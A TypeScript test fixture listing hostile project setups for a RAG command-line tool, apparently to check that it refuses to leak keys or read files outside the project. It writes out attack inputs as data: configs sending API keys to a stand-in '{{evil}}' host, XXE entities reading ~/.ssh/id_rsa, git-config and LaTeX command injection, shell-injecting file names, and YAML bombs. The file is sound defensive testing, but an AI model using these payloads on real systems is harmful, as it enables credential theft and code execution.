/**
 * Projects that someone else made, each with the commands that a visitor would run in it. `{{evil}}` stands for the
 * recording server under a foreign name, `{{port}}` for its port, `{{home}}` and `{{victim}}` for folders that the project has no
 * business in.
 */
export interface HostileProject {
  name: string;
  /** Of the project, by path. */
  files?: Record<string, string>;
  /** `.ragrc` */
  config?: unknown;
  /** Links of the project: path → target. */
  links?: Record<string, string>;
  /** Named pipes of the project. */
  pipes?: string[];
  /** Makes what files and links cannot say; the paths are absolute. */
  plant?: (project: string, outside: { home: string; victim: string }) => Promise<void>;
  /** Arguments; the usual ones are an ingest of `docs`, a search and a question. */
  commands?: string[][];
  /** Of the environment, beside the usual ones. */
  variables?: Record<string, string>;
  /** What one of the commands has to say on stderr; not set where the project is merely to do no harm. */
  says?: RegExp;
}

const evil = { baseUrl: "http://{{evil}}/v1", embeddingModel: "m", chatModel: "m" };
const ingest = ["ingest", "docs"];
const ask = ["ask", "canary secret keys"];
const search = ["search", "canary secret keys"];
const both = [ingest, ask];

/** So that a command that wants to start an engine says at once that it cannot, and sets up none. */
const noPython = { PATH: "" };

/** Sends by a model's address. */
const models: HostileProject[] = [
  {
    name: "a row of its own that embeds",
    config: { providers: { evil }, embedding: { provider: "evil" } },
    commands: [ingest],
    says: /sends/,
  },
  {
    name: "a row of its own that answers",
    config: { providers: { evil }, llm: { provider: "evil" } },
    commands: both,
    says: /sends/,
  },
  {
    name: "a row that takes over openai",
    config: { providers: { openai: evil }, embedding: { provider: "openai" } },
    commands: [ingest],
    says: /sends/,
  },
  {
    name: "openai at another address",
    config: { llm: { provider: "openai", model: "m", baseUrl: evil.baseUrl } },
    commands: both,
    says: /sends/,
  },
  {
    name: "vllm at another address",
    config: { embedding: { provider: "vllm", model: "m", baseUrl: evil.baseUrl } },
    commands: [ingest],
    says: /sends/,
  },
  {
    name: "ollama at another address",
    config: { llm: { provider: "ollama", model: "m", baseUrl: evil.baseUrl } },
    commands: both,
    says: /sends/,
  },
  {
    name: "a key of another provider",
    config: { llm: { provider: "vllm", model: "m", baseUrl: evil.baseUrl, apiKey: "${OPENAI_API_KEY}" } },
    commands: both,
    says: /sends/,
  },
  {
    name: "a key variable of another provider",
    config: { providers: { g: { ...evil, keyVariable: "OPENAI_API_KEY" } }, llm: { provider: "g" } },
    commands: both,
    says: /sends/,
  },
  {
    name: "a canary as a key variable",
    config: { providers: { g: { ...evil, keyVariable: "AZURE_STORAGE_CONNECTION_STRING" } }, llm: { provider: "g" } },
    commands: both,
    says: /sends/,
  },
  {
    name: "a key in the address",
    config: { llm: { provider: "vllm", model: "m", baseUrl: "http://{{evil}}/v1?k=${OPENAI_API_KEY}" } },
    commands: both,
    says: /OPENAI_API_KEY/,
  },
  {
    name: "a user name in the address",
    config: { llm: { provider: "vllm", model: "m", baseUrl: "http://a:b@{{evil}}/v1" } },
    commands: both,
    says: /user name|sends/,
  },
  {
    name: "an account of its own",
    config: { llm: { provider: "openai", apiKey: "sk-of-a-stranger-0123" } },
    commands: both,
    says: /account of its own/,
  },
  {
    name: "a row of its own that reranks",
    config: { providers: { evil: { ...evil, rerankModel: "m" } }, search: { rerank: "evil" } },
    commands: [ingest, search],
    says: /sends/,
  },
  {
    name: "a row that takes over jina, for its rerankers",
    config: { providers: { jina: evil }, search: { rerank: "jina/m" } },
    commands: [ingest, search, ask],
    variables: { JINA_API_KEY: "jina-canary-0123456789" },
    says: /sends/,
  },
  {
    name: "a reranker that is the model of a row of its own",
    config: { providers: { evil }, llm: { provider: "evil" }, search: { rerank: "llm" } },
    commands: [ingest, search],
    says: /sends/,
  },
  {
    name: "the number of the host in decimals",
    config: { llm: { provider: "vllm", model: "m", baseUrl: "http://0:{{port}}/v1" } },
    commands: both,
    says: /sends/,
  },
  {
    name: "a host that begins like this machine",
    config: { llm: { provider: "vllm", model: "m", baseUrl: "http://127.0.0.1.evil.invalid:{{port}}/v1" } },
    commands: both,
    says: /sends/,
  },
  {
    name: "a host that ends like a provider's",
    config: { llm: { provider: "openai", model: "m", baseUrl: "http://api.openai.com.evil.invalid/v1" } },
    commands: both,
    says: /sends/,
  },
];

const canary = "AZURE_STORAGE_CONNECTION_STRING";
const loopback = { provider: "vllm", model: "m", baseUrl: "http://127.0.0.1:{{port}}/v1" };
/** Carries variables where none belong; the server on this machine must not see them either. */
const variables: HostileProject[] = (
  [
    ["the system prompt", { llm: { ...loopback, systemPrompt: `\${${canary}:-} \${SLACK_WEBHOOK_URL:-}` } }],
    ["a prefix of questions", { embedding: { ...loopback, queryPrefix: `\${${canary}}` } }],
    ["a prefix of passages", { embedding: { ...loopback, documentPrefix: `\${${canary}}` } }],
    ["a prefix in a row", { providers: { g: { ...evil, documentPrefix: `\${${canary}}` } } }],
    ["the model's name", { llm: { ...loopback, model: `\${${canary}}` } }],
    ["the model's path", { llm: { ...loopback, baseUrl: "http://127.0.0.1:{{port}}/${SLACK_WEBHOOK_URL}" } }],
    ["the collection", { collection: "c_${USERISH}" }],
    ["the separator", { chunking: { strategy: "separator", separator: `\${${canary}}` } }],
    ["the store", { store: { path: "${USERISH}" } }],
    ["the database", { milvus: { uri: "http://127.0.0.1:{{port}}", database: "${USERISH}" } }],
    ["the address of Milvus", { milvus: { uri: "http://${USERISH}.evil.invalid:19530" } }],
    ["a model's key as the token", { milvus: { uri: "http://127.0.0.1:{{port}}", token: "${OPENAI_API_KEY}" } }],
    ["a parameter", { milvus: { index: { params: { x: "${USERISH}" } } } }],
    ["the schema", { $schema: "http://{{evil}}/${USERISH}" }],
  ] satisfies [string, unknown][]
).map(([name, config]) => ({
  name: `a variable in ${name}`,
  config,
  commands: both,
  says: /environment|variable|sends/,
}));

/** Reaches outside by a path. */
const paths: HostileProject[] = [
  { name: "the store of another project", config: { store: { path: "../victim/.rag" } }, says: /outside/ },
  { name: "an absolute store", config: { store: { path: "{{home}}/.ssh" } }, says: /outside/ },
  {
    name: "a store behind a link",
    config: { store: { path: "data/.rag" } },
    links: { data: "../victim" },
    says: /outside/,
  },
  { name: "a store that is a link, and no configuration", links: { ".rag": "../victim/.rag" }, says: /outside/ },
  { name: "a store that is a link to nothing", links: { ".rag": "{{home}}/new" }, says: /outside/ },
  { name: "a table that is a link", links: { ".rag/docs.lance": "../../victim/.rag/docs.lance" }, says: /is a link/ },
  {
    name: "a part of a table that is a link",
    links: { ".rag/docs.lance/data": "../../../victim/.rag/docs.lance/data" },
    says: /is a link/,
  },
  { name: "an address with a path", config: { milvus: { uri: "file:../victim/.rag" } }, says: /outside/ },
  { name: "an address with a file URL", config: { milvus: { uri: "file://{{home}}/.ssh" } }, says: /outside/ },
  { name: "a database in the home folder", config: { milvus: { uri: "{{home}}/.ssh/x.db" } }, says: /outside/ },
  {
    name: "a database that is a link",
    config: { milvus: { uri: "x.db" } },
    links: { "x.db": "{{home}}/.ssh" },
    says: /outside/,
  },
  { name: "a server elsewhere", config: { milvus: { uri: "http://{{evil}}" } }, says: /sends/ },
  {
    name: "a server elsewhere with its own token",
    config: { milvus: { uri: "http://{{evil}}", token: "a:b" } },
    says: /sends/,
  },
  {
    name: "a server elsewhere with the user's token",
    config: { milvus: { uri: "http://{{evil}}", token: "${MILVUS_TOKEN}" } },
    says: /sends/,
  },
  {
    name: "a key file of the user's for TLS",
    config: { milvus: { uri: "https://127.0.0.1:{{port}}", tls: { keyFile: "{{home}}/.ssh/id_rsa" } } },
    says: /outside/,
  },
  {
    name: "a program",
    files: { "run.sh": "#!/bin/sh\necho > {{home}}/ran\n" },
    config: { milvus: { uri: "x.db", python: "./run.sh" } },
    says: /program/,
  },
  {
    name: "a configuration that is code",
    files: {
      ".ragrc.js": "require('fs').writeFileSync('{{home}}/ran', '')",
      "rag.config.js": "require('fs').writeFileSync('{{home}}/ran', '')",
    },
    commands: [ingest],
  },
  {
    name: "code in .config",
    files: { ".config/config.js": "require('fs').writeFileSync('{{home}}/ran', '')" },
    commands: [ingest],
  },
  {
    name: "a prompt of the user's",
    config: { llm: loopback, ask: { prompt: "{{home}}/.ssh/id_rsa" } },
    commands: both,
    says: /outside/,
  },
  {
    name: "a prompt that is a link",
    config: { llm: loopback, ask: { prompt: "p.txt" } },
    links: { "p.txt": "{{home}}/.ssh/id_rsa" },
    commands: both,
    says: /outside/,
  },
  {
    name: "a local model elsewhere",
    config: { embedding: { provider: "local", model: "{{home}}/.ssh" } },
    says: /outside/,
  },
  {
    name: "a local reranker elsewhere",
    config: { search: { rerank: "local/{{home}}/.ssh" } },
    says: /outside/,
  },
  {
    name: "a local model in the home folder",
    config: { embedding: { provider: "local", model: "~/.ssh" } },
    says: /outside/,
  },
  {
    name: "links wanted",
    config: { ingest: { followLinks: true } },
    links: { "docs/key.md": "{{home}}/.ssh/id_rsa" },
    says: /links/,
  },
  {
    name: "a pointer to an engine elsewhere",
    config: { milvus: { uri: "x.db" } },
    files: {
      "x.db/.rag-engine.json": '{"address":"{{evil}}","token":"t","database":"{{project}}/x.db","pid":1}',
      "x.db/LOCK": "",
    },
    variables: noPython,
    commands: [search],
  },
  {
    name: "a pointer to a port of this machine",
    config: { milvus: { uri: "x.db" } },
    files: {
      "x.db/.rag-engine.json":
        '{"address":"127.0.0.1:{{port}}","token":"t","database":"{{project}}/x.db","pid":{{pid}}}',
    },
    variables: noPython,
    commands: [search],
  },
];

/** Documents and folders. */
const documents: HostileProject[] = [
  {
    name: "a link to a key",
    links: { "docs/key.md": "{{home}}/.ssh/id_rsa" },
    commands: [ingest, search],
    says: /1 link leads out/,
  },
  {
    name: "a link to a folder",
    links: { "docs/home": "{{home}}" },
    commands: [ingest, search],
    says: /1 link leads out/,
  },
  {
    name: "a chain of links",
    links: { "docs/a.md": "b.md", "docs/b.md": "../c.md", "c.md": "{{home}}/.ssh/id_rsa" },
    commands: [ingest, search],
    says: /links lead out/,
  },
  {
    name: "a link, by a glob",
    links: { "docs/key.md": "{{home}}/.ssh/id_rsa" },
    commands: [["ingest", "docs/**/*.md"], search],
    says: /1 link leads out/,
  },
  {
    name: "a link, by its name",
    links: { "docs/key.md": "{{home}}/.ssh/id_rsa" },
    commands: [["ingest", "docs/key.md"], search],
    says: /leads out of the project/,
  },
  {
    name: "a folder that is a link",
    links: { notes: "{{home}}/.ssh" },
    commands: [["ingest", "notes"], search],
    says: /leads out of the project/,
  },
  {
    name: "a link above a file",
    links: { notes: "{{home}}" },
    commands: [["ingest", "notes/.ssh/id_rsa"], search],
    says: /leads out of the project/,
  },
  {
    name: "a link in a list of files",
    files: { list: "docs/key.md\n" },
    links: { "docs/key.md": "{{home}}/.ssh/id_rsa" },
    commands: [["ingest", "--files-from", "list"], search],
    says: /leads out of the project/,
  },
  {
    name: "links around",
    links: { "docs/up": "..", "docs/self": "." },
    commands: [ingest, search],
    says: /folder that it is in/,
  },
  { name: "a pipe as the configuration", pipes: [".ragrc"], says: /not a regular file/ },
  { name: "a pipe as package.json", pipes: ["package.json"], commands: [ingest] },
  { name: "a device as the configuration", links: { ".ragrc": "/dev/zero" }, says: /not a regular file/ },
  { name: "standard input as the configuration", links: { ".ragrc": "/dev/stdin" }, says: /not a regular file/ },
  { name: "a pipe as a lock", pipes: [".rag/docs.lock"], commands: [ingest] },
  {
    name: "a pipe as a list",
    pipes: ["list"],
    commands: [["ingest", "--files-from", "list"]],
    says: /not a regular file/,
  },
  {
    name: "a pipe as a prompt",
    pipes: ["p.txt"],
    config: { ask: { prompt: "p.txt" } },
    commands: both,
    says: /not a regular file/,
  },
  { name: "pipes as ignore files", pipes: [".gitignore", "docs/.ragignore"], commands: [ingest] },
  { name: "a pipe as a document", pipes: ["docs/pipe.md"], commands: [ingest], says: /is a pipe/ },
  {
    name: "a configuration without end",
    files: { ".ragrc": `{"collection":"${"x".repeat(5_000_000)}"}` },
    says: /larger than/,
  },
  {
    name: "a configuration nested without end",
    files: { ".ragrc": `{"a":${"[".repeat(100_000)}${"]".repeat(100_000)}}` },
    says: /nested|valid|mistake/,
  },
  { name: "YAML nested without end", files: { ".ragrc": `a: ${"[".repeat(20_000)}` }, says: /valid YAML|nested/ },
  {
    name: "YAML that multiplies itself",
    files: {
      ".ragrc": `a: &a [x,x,x,x,x,x,x,x,x]\n${[..."bcdefghi"].map((name, index) => `${name}: &${name} [${Array.from({ length: 9 }, () => `*${"abcdefgh"[index]}`).join(",")}]`).join("\n")}`,
    },
    says: /valid YAML|mistake/,
  },
  {
    name: "a prototype in the configuration",
    files: { ".ragrc": '{"__proto__":{"milvus":{"uri":"http://{{evil}}"}},"constructor":{}}' },
    says: /unknown setting|mistake/,
  },
  {
    name: "controls in documents",
    files: { "docs/\u202Ec.md": "# A\u009B2J\u001B]0;title\u0007 canary secret keys\n\n\u061C\u2066text\u202E" },
    commands: [
      ingest,
      search,
      [...search, "--format", "ndjson"],
      ["collections", "sources", "docs"],
      [...ask, "--show-context"],
    ],
  },
  {
    name: "colours and links as the tool writes them, where colours are wanted",
    files: {
      "docs/\u001B[45mname.md": "keys",
      "docs/text.md":
        "# Keys\n\nThe canary secret keys are \u001B[45;35mred\u001B[0m and \u001B]8;;file:///x\u0007linked\u001B]8;;\u0007 in this text.",
    },
    commands: [ingest, search, [...ask, "--show-context"], ["get", "docs/text.md"]].map((argv) => [
      ...argv,
      "--color",
      "always",
    ]),
  },
  {
    name: "controls in the configuration",
    config: { "a\u009B2J\u202E": 1, collection: "x\u001B[2J" },
    says: /unknown setting/,
  },
  {
    name: "a line break in a name",
    files: { "docs/a\n..\n.md": "canary secret keys" },
    commands: [ingest, [...search, "--format", "paths"]],
  },
];

/** Addresses and files that a format lets a document name, in the way that its own programs would follow. */
const evilAddress = "http://{{evil}}/canary";
const privateFile = "{{home}}/.ssh/id_rsa";
const commandsOnDocuments = [["ingest", "docs", "docs/**/*.xml"], search];

/** Documents that name what is elsewhere: nothing of it is fetched or read. */
const references: HostileProject[] = (
  [
    [
      "HTML with pictures, frames and styles of another host",
      "a.html",
      `<html><head><base href="${evilAddress}/"><link rel=stylesheet href="${evilAddress}.css"><meta http-equiv=refresh content="0;url=${evilAddress}"><script src="${evilAddress}.js"></script></head><body><p>keys<img src="${evilAddress}.png"><iframe src="file://${privateFile}"></iframe></p></body></html>`,
    ],
    [
      "XML with external entities",
      "a.xml",
      `<!DOCTYPE a SYSTEM "${evilAddress}.dtd" [<!ENTITY b SYSTEM "file://${privateFile}"><!ENTITY % c SYSTEM "${evilAddress}">%c;]><a>keys &b;</a>`,
    ],
    [
      "XHTML with external entities",
      "a.xhtml",
      `<!DOCTYPE html [<!ENTITY b SYSTEM "file://${privateFile}">]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>keys &b;</p></body></html>`,
    ],
    [
      "mail with parts that are elsewhere",
      "a.eml",
      `From: a@b\nSubject: keys\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: message/external-body; access-type=URL; URL="${evilAddress}"\n\n--x\nContent-Type: message/external-body; access-type=local-file; name="${privateFile}"\n\n--x\nContent-Type: text/html\n\n<p>keys<img src="${evilAddress}.png"></p>\n--x--\n`,
    ],
    [
      "a notebook with pictures of another host",
      "a.ipynb",
      JSON.stringify({
        nbformat: 4,
        nbformat_minor: 5,
        metadata: {},
        cells: [
          { cell_type: "markdown", metadata: {}, source: `# keys\n![](${evilAddress}.png)` },
          {
            cell_type: "code",
            metadata: {},
            execution_count: 1,
            source: "open('/etc/passwd')",
            outputs: [
              {
                output_type: "display_data",
                metadata: {},
                data: { "text/html": `<img src="${evilAddress}.png">keys` },
              },
            ],
          },
        ],
      }),
    ],
    ["AsciiDoc that includes", "a.adoc", `= keys\n\ninclude::${privateFile}[]\n\ninclude::${evilAddress}[]\n`],
    [
      "reStructuredText that includes",
      "a.rst",
      `keys\n====\n\n.. include:: ${privateFile}\n\n.. raw:: html\n   :url: ${evilAddress}\n\n.. csv-table::\n   :file: ${privateFile}\n`,
    ],
    ["LaTeX that inputs", "a.tex", `\\section{keys}\n\\input{${privateFile}}\n\\write18{touch {{home}}/ran}\n`],
    [
      "Org that includes",
      "a.org",
      `* keys\n#+INCLUDE: "${privateFile}"\n#+BEGIN_SRC sh :exports results\ntouch {{home}}/ran\n#+END_SRC\n`,
    ],
    [
      "MDX that imports",
      "a.mdx",
      `import a from "${privateFile}"\nimport b from "${evilAddress}"\n\n# keys\n\n{require("fs").writeFileSync("{{home}}/ran", "")}\n`,
    ],
    [
      "front matter of YAML that names types",
      "a.md",
      `---\na: !!js/function "function(){require('fs').writeFileSync('{{home}}/ran','')}"\n__proto__: {polluted: true}\n---\n# keys\n`,
    ],
    ["a name that a shell would run", "$(touch ran)`touch ran`;touch ran.md", "# keys"],
    ["a name that reads as an option", "-rf.md", "# keys"],
  ] satisfies [string, string, string][]
).map(([name, file, content]) => ({
  name,
  files: { [`docs/${file}`]: content },
  commands: [...commandsOnDocuments, ["complete", "--", "get", "docs/"], ["get", `docs/${file}`]],
}));

/** What was added to the commands since the first of these. */
const newer: HostileProject[] = [
  {
    name: "programs as loaders",
    files: { "run.sh": "#!/bin/sh\necho > {{home}}/ran\n" },
    config: { loaders: { ".md": "sh ./run.sh" } },
    commands: [ingest, ["doctor"], search],
    says: /runs "sh/,
  },
  {
    name: "links that are programs",
    config: { urls: { docs: "javascript:alert(1)" } },
    commands: both,
    says: /urls/,
  },
  {
    name: "a model elsewhere, and rag doctor",
    config: { providers: { evil }, embedding: { provider: "evil" }, llm: { provider: "evil" } },
    commands: [["doctor"], ["doctor", "--json"]],
  },
  {
    name: "a server elsewhere, and rag doctor",
    config: { milvus: { uri: "http://{{evil}}", token: "${MILVUS_TOKEN}" } },
    commands: [["doctor"], ["collections"], ["complete", "--", "search", "-c", ""]],
  },
  {
    name: "a model elsewhere, and a conversation",
    config: { providers: { evil }, llm: { provider: "evil" } },
    commands: [
      ingest,
      ["ask", "--continue", "canary secret keys"],
      ["ask", "canary secret keys", "--batch", "docs/own.md"],
    ],
    says: /sends/,
  },
  {
    name: "rag init among links and pipes",
    links: { "docs/home": "{{home}}", "notes.md": "{{home}}/.ssh/id_rsa" },
    pipes: ["README.md", "mkdocs.yml"],
    commands: [["init", "--yes"], ingest],
  },
  {
    name: "a repository with programs in its settings",
    files: {
      ".git/HEAD": "ref: refs/heads/main\n",
      ".git/config":
        '[core]\n\tfsmonitor = touch {{home}}/ran\n\tsshCommand = touch {{home}}/ran\n[remote "origin"]\n\turl = ext::touch {{home}}/ran\n',
    },
    commands: [ingest, search],
  },
  {
    name: "pipes as a repository",
    pipes: [".git/config", ".git/HEAD", ".git/info/exclude"],
    commands: [ingest, search],
  },
  { name: "a pipe as .git", pipes: [".git"], commands: [ingest, search] },
  {
    name: "ignore rules that take for ever",
    files: {
      ".git/HEAD": "ref: refs/heads/main\n",
      ".gitignore":
        "**/a/**/a/**/a/**/a/**/a/**/b\n**/a/**/a/**/b\ndocs/**/**/**/**/b\n*a*a*a*a*a*a*a*a*b\n*[a]*[a]*[a]*[a]*[a]*b\n",
      [`docs/${"a/".repeat(400)}own.md`]: "# keys",
      [`docs/${"a".repeat(200)}bx.md`]: "# keys",
    },
    commands: [ingest],
  },
  {
    name: "a place outside of the project",
    commands: [
      ingest,
      ["get", "{{home}}/.ssh/id_rsa"],
      ["get", "../home/.ssh/id_rsa"],
      ["open", "../home/.ssh/id_rsa"],
    ],
    variables: { EDITOR: "cat" },
  },
];

export const hostileProjects: readonly HostileProject[] = [
  ...models,
  ...variables,
  ...paths,
  ...documents,
  ...references,
  ...newer,
];
